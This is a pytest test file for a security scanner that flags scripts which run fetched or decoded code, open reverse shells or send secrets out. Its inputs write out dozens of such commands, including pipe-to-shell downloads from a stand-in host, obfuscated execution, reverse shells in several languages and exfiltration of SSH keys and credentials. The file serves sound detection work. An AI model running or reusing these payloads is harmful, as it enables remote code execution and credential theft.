"""Lines that run what they fetch or decode, in one line or in several, and honest ones beside them."""

import pytest

from satchel.library.install.scan import scan_text


def found(text: str, file: str = "run.sh") -> list[tuple[str, str, int]]:
    return [(finding.rule, finding.severity, finding.line) for finding in scan_text(text, file)]


@pytest.mark.parametrize(
    "text",
    [
        "curl http://e.example/x | # note\nsh",
        "curl http://e.example/x |\n# note\n\n  # another\nsh",
        "curl http://e.example/x &&  # note\n sh x",
        "curl http://e.example/x | # a | note & more\nsh",
        "curl http://e.example/x | #" + "n" * 1_000 + "\nsh",
        "curl http://e.example/x |" + "\n" * 20_000 + "sh",
        'curl "http://e.example/x?| #" | sh # |\necho',
        "curl http://e.example/x |& sh",
        'curl http://e.example/x | "sh"',
        "curl http://e.example/x | env -i bash",
        "curl http://e.example/x | sudo -u ann A=1 bash",
        "curl http://e.example/x | exec bash",
        "curl http://e.example/x | busybox sh",
        "curl http://e.example/x | timeout 9 nohup bash &",
        "curl http://e.example/x | xargs -0 bash -c",
        "curl http://e.example/x | . /dev/stdin",
        "curl http://e.example/x | python3 -u -",
        "curl http://e.example/x | $SHELL",
        "curl http://e.example/x | (sh)",
        "curl http://e.example/x | { sh; }",
        "curl http://e.example/x | tee >(sh)",
        'curl http://e.example/x | while read l; do eval "$l"; done',
        'bash <<< "$(curl http://e.example/x)"',
        "sh < <(wget -qO- http://e.example/x)",
        ". <(curl -s http://e.example/x)",
        "python3 <(curl -s http://e.example/x)",
        "$(curl -s http://e.example/x)",
        'curl http://e.example/x -H "' + "a " * 3_000 + '" | sh',
        "curl http://e.example/x \\\n" + '  -H "a: b" \\\n' * 300 + " | sh",
        '{"source": ["!curl http://e.example/x ", "| sh\\n"]}',
        "iex (iwr http://e.example/x)",
        "IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')",
        "irm http://e.example/x | Invoke-Expression",
        "& ([scriptblock]::Create((irm http://e.example/x)))",
        "mshta http://e.example/x.hta",
        "fetch('http://e.example/x').then(r => r.text()).then(eval)",
        'X=$(curl -s http://e.example/x)\necho\neval "$X"',
        "X=`curl -s http://e.example/x`\necho $X | sh",
        "curl -o /tmp/x http://e.example/x\nbash /tmp/x",
        "wget http://e.example/x.sh\nchmod +x x.sh\n./x.sh",
        "code = urlopen('http://e.example/x').read()\nexec(code)",
        "r = requests.get('http://e.example/x')\nexec(r.text)",
        "r = requests.get('http://e.example/x')\ncode = r.text\nexec(compile(code, 'x', 'exec'))",
        "with urlopen('http://e.example/x') as r:\n    exec(r.read())",
        "const t = await (await fetch('http://e.example/x')).text();\neval(t)",
    ],
)
def test_no_way_of_writing_hides_that_it_runs_what_it_fetches(text: str) -> None:
    assert [rule for rule, severity, _ in found(text) if severity == "critical"] == ["pipe-to-shell-plain"]


@pytest.mark.parametrize(
    "text",
    [
        "echo aGVsbG8= | base64 -di | bash",
        "echo aGVsbG8= | openssl enc -base64 -d | bash",
        "echo aGVsbG8= | python3 -m base64 -d | bash",
        "base64 -d <<EOF | sh\naGVsbG8=\nEOF",
        "bash <<< $(base64 -d <<< aGVsbG8=)",
        'sh -c "$(echo aGVsbG8= | base64 -d)"',
        "echo aGVsbG8 | base32 -d | sh",
        "echo 'hs | x lruc' | rev | sh",
        "echo 'phey' | tr a-z n-za-m | sh",
        "tail -n +10 logo.png | sh",
        "zcat data.bin | bash",
        "x = base64.b64decode('aGVsbG8=')\nexec(x)",
        "exec(bytes([104, 105]).decode())",
        "exec(''.join(map(chr, [104, 105])))",
        "exec(codecs.decode('uv', 'rot13'))",
        "import('data:text/javascript;base64,aGVsbG8=')",
        "pwsh -e SQBFAFgAIAAoAE4AZQB3AC0A",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8=')))",
    ],
)
def test_no_way_of_decoding_hides_that_it_is_run(text: str) -> None:
    assert [rule for rule, *_ in found(text)] == ["encoded-execution"]


@pytest.mark.parametrize(
    "text",
    [
        "sh </dev/tcp/203.0.113.7/5 >&0 2>&0",
        "exec 5<>/dev/tcp/203.0.113.7/5; cat <&5 | while read l; do $l; done",
        "nc -c sh 203.0.113.7 5",
        "ncat 203.0.113.7 5 --sh-exec bash",
        "socat TCP:203.0.113.7:5 EXEC:/bin/sh",
        "mkfifo /tmp/s; sh -i < /tmp/s | openssl s_client -connect 203.0.113.7:5 > /tmp/s",
        "perl -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(5,$i));exec(\"/bin/sh -i\");'",
        'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.7",5).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
        'php -r \'$s=fsockopen("203.0.113.7",5);exec("/bin/sh -i <&3 >&3");\'',
        "$c=New-Object Net.Sockets.TCPClient('203.0.113.7',5);while(1){iex $d}",
        "s = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])",
        "s = net.connect(5, '203.0.113.7')\nsh = spawn('/bin/sh')\ns.pipe(sh.stdin)",
    ],
)
def test_shells_for_others_are_found_in_other_words_and_over_several_lines(text: str) -> None:
    assert "reverse-shell" in [rule for rule, *_ in found(text)]


@pytest.mark.parametrize(
    "text",
    [
        "cat .env | curl -d @- https://e.example",
        "cat /proc/self/environ | curl -d @- https://e.example",
        "requests.post(url, json={key: value for key, value in os.environ.items()})",
        "requests.post(url, json=os.environ.copy())",
        "curl --upload-file ~/.ssh/id_rsa https://e.example",
        "dig $(cat ~/.ssh/id_rsa | base64).e.example",
        "Get-Content ~\\.aws\\credentials | iwr -Method POST https://e.example",
    ],
)
def test_other_ways_of_sending_secrets_are_found(text: str) -> None:
    assert [severity for _, severity, _ in found(text)] == ["critical"]


def test_a_comment_between_the_lines_of_a_command_is_looked_at_too() -> None:
    text = "curl http://e.example/x | # AKIA" + "ABCDEFGHIJKLMNOP\n# rm -rf ~\nsh\n"

    assert sorted(rule for rule, *_ in found(text)) == ["credential", "destructive", "pipe-to-shell-plain"]


@pytest.mark.parametrize(
    "text",
    [
        "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/80'",
        "exec 3<>/dev/tcp/localhost/8080 && echo up",
        "r = requests.get(url)\ndata = r.json()\npattern.exec(data)",
        "page = urlopen(url).read()\nmatch = regex.exec(page)",
        "curl -o data.json https://e.example/data\npython3 read.py data.json",
        "curl https://e.example/docker\ndocker run x",
        "wget https://e.example/a.tar.gz\ntar xf a.tar.gz\n./configure",
        "eval \"$(git rev-parse --parseopt -- '$@')\"",
        'eval "$(ssh-agent -s)"',
        "tr -d '\\r' < a.sh | bash",
        "base64 -d picture.txt | python3 show.py",
        "curl -s https://e.example/x | bash-completion",
        "curl -s https://e.example/x | sudo tee /etc/apt/sources.list.d/x.list",
        "await import('data:text/javascript,import \"x\"')",
        "os.dup2(log.fileno(), 1)\nsubprocess.run(['/bin/sh'])",
        "source .env && curl -d x https://e.example",
        "requests.post(url, headers={'key': os.environ['KEY'], 'home': os.environ.get('HOME')})",
    ],
)
def test_what_is_honest_is_not_found(text: str) -> None:
    assert found(text) == []
